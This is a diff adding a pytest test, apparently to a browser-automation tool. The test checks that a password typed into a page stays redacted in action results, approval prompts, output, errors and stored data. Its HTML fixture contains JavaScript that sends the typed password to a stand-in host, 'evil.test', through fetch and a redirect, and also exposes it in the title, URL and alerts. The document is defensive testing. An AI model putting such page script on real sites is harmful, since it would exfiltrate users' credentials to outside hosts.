@@ -2,6 +2,7 @@
 
 import json
 import logging
+from collections.abc import Callable
 from pathlib import Path
 from urllib.parse import quote
 
@@ -84,6 +85,52 @@ def test_no_secret_is_found_in_anything_that_is_kept_or_told(
     log.close()
     assert {where: found_in(text) for where, text in told.items() if found_in(text)} == {}
     assert all(len(text) > 0 for where, text in told.items() if where != "output")
+
+
+TYPED = 'xylophone"quärtz/9 &jane.doe@x.example'
+SPREADING = """<title>Hello</title><input type="password" id="pw"><p id="out"></p><script>
+const typed = () => pw.value, coded = () => encodeURIComponent(pw.value);
+const send = (url, body) => fetch(url, {method: "POST", body, headers: {"X-Odd": coded()}}).catch(() => 0);
+</script>
+<button id="go" onclick="send('/act/' + coded() + '?q=' + coded(), JSON.stringify([typed()]))">go</button>
+<button id="away" onclick="fetch('http://evil.test/' + coded()).catch(() => 0)">away</button>
+<button id="lead" onclick="location = 'http://evil.test/?q=' + coded()">lead</button>
+<button id="show" onclick="document.title = out.textContent = typed(); out.title = coded();
+ history.replaceState(0, 0, '/' + coded() + '?' + coded()); alert(typed()); console.log(typed())">show</button>"""
+
+
+def test_what_was_typed_into_a_password_field_is_found_nowhere_whatever_the_page_does_with_it(
+    place: Place, capsys: pytest.CaptureFixture[str]
+) -> None:
+    place.open(SPREADING)
+    here = "/" + quote(TYPED, safe="")
+    acts: dict[str, Callable[[], ActionResult]] = {
+        "type": lambda: place.do(place.action("type", selector="#pw", value=TYPED)),
+        "sent": place.click,
+        "denied": lambda: place.click(answer=deny),
+        "turned away": lambda: place.click("#away"),
+        "led away": lambda: place.click("#lead"),
+        "shown": lambda: place.click("#show"),
+        "elsewhere": place.click,
+        "snapshot": lambda: place.do(place.action("snapshot", here)),
+        "named": lambda: place.do(place.action("click", here, selector=f"[title='{quote(TYPED, safe='')}']")),
+        "missing": lambda: place.do(place.action("click", here, selector=f"#x[title='{quote(TYPED, safe='')}']")),
+    }
+    results = {name: act() for name, act in acts.items()}
+    failed = {name for name, result in results.items() if not result.success}
+    assert failed == {"denied", "led away", "elsewhere", "missing"}
+    assert TYPED.encode() in json.loads(place.site.posts()[0].body)[0].encode(), "it was sent as it is"
+    told = {
+        **{name: result.canonical().decode() for name, result in results.items()},
+        "questions": "".join(question.approval.canonical().decode() for question in place.asked),
+        "output": "".join(capsys.readouterr()),
+        "errors": "".join(str(refusal) + json.dumps(error_to_frame(refusal)) for refusal in place.refusals),
+        "database": everything_in_the_store(place),
+    }
+    assert {name: text for name, text in told.items() if "xylophone" in text.lower()} == {}
+    assert "********" in told["shown"]
+    assert "********" in told["turned away"]
+    assert len(place.asked) == 3
 
 
 def everything_in_the_store(place: Place) -> str:
